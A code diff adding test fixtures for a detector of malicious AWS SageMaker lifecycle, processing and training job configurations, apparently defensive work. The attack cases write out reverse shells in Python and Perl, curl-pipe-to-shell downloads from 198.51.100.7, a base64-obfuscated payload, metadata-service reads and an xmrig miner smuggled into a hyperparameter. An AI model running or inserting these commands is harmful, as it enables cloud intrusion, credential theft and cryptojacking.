@@ -31,6 +31,20 @@ export const undecodableOnly = lifecycleConfig([], ['not base64 at all']);
 export const studioConfig = (script: string) =>
   rec('CreateStudioLifecycleConfig', { studioLifecycleConfigName: 'jl-bootstrap', studioLifecycleConfigAppType: 'JupyterLab', studioLifecycleConfigContent: b64(script) });
 
+/** A processing job whose container runs `command` (entrypoint, then arguments). */
+export const processingJob = (entrypoint: string[], args: string[] = []) =>
+  rec('CreateProcessingJob', {
+    processingJobName: 'feature-prep-1',
+    appSpecification: { imageUri: '111122223333.dkr.ecr.us-east-1.amazonaws.com/feature-prep:2', containerEntrypoint: entrypoint, containerArguments: args },
+    roleArn: 'arn:aws:iam::111122223333:role/service-role/AmazonSageMaker-ExecutionRole-20261127T000001',
+  });
+const trainingJob = (hyperParameters: Record<string, string>) =>
+  rec('CreateTrainingJob', {
+    trainingJobName: 'xgb-1',
+    algorithmSpecification: { trainingImage: '683313688378.dkr.ecr.us-east-1.amazonaws.com/sagemaker-xgboost:1.7-1', trainingInputMode: 'File' },
+    hyperParameters,
+  });
+
 export default {
   attack: [
     { name: 'a reverse shell in OnStart', records: [reverseShellOnStart] },
@@ -40,10 +54,16 @@ export default {
     { name: 'a payload decoded and run', records: [lifecycleConfig([b64('echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA== | base64 -d | bash')])] },
     { name: 'a perl socket back to a listener', records: [lifecycleConfig([b64('perl -e \'use Socket;$i="198.51.100.7";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));\'')])] },
     { name: 'the role name read from the metadata service', records: [studioConfig('ROLE=$(curl -s http://169.254.169.254/latest/meta-data/iam/info)')] },
+    { name: 'the metadata service listed from a Studio configuration', records: [studioConfig('curl -s http://169.254.169.254/latest/meta-data/ > /tmp/md')] },
+    { name: 'a processing job whose container downloads and runs a script', records: [processingJob(['/bin/sh', '-c'], ['curl -fsSL http://198.51.100.7/p.sh | sh'])] },
+    { name: 'a processing job whose container opens a reverse shell', records: [processingJob(['python3', '-c'], ['import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.7",443));os.dup2(s.fileno(),0);import pty;pty.spawn("sh")'])] },
+    { name: 'a training job hyperparameter carrying a miner', records: [trainingJob({ num_round: '100', sagemaker_program: 'train.py', extra_args: '"--run ./xmrig -o stratum+tcp://198.51.100.7:3333"' })] },
   ],
   nearMiss: [
     { name: 'a set-up script installing packages and fetching a file without running it', records: [benignSetupScript] },
     { name: 'content that is not base64', records: [undecodableOnly] },
+    { name: 'a processing job running its own Python script', records: [processingJob(['python3', '/opt/ml/processing/code/preprocess.py'], ['--train-test-split-ratio', '0.2'])] },
+    { name: 'a training job with ordinary hyperparameters', records: [trainingJob({ num_round: '100', max_depth: '5', objective: '"binary:logistic"', sagemaker_program: '"train.py"', sagemaker_submit_directory: '"s3://ml-code-111122223333/xgb/sourcedir.tar.gz"' })] },
     { name: 'a Studio configuration installing extensions and reading the instance id from the metadata service', records: [studioConfig('#!/bin/bash\npip install --quiet jupyterlab-lsp\nID=$(curl -s http://169.254.169.254/latest/meta-data/instance-id)\n')] },
   ],
 } satisfies RuleFixtures;
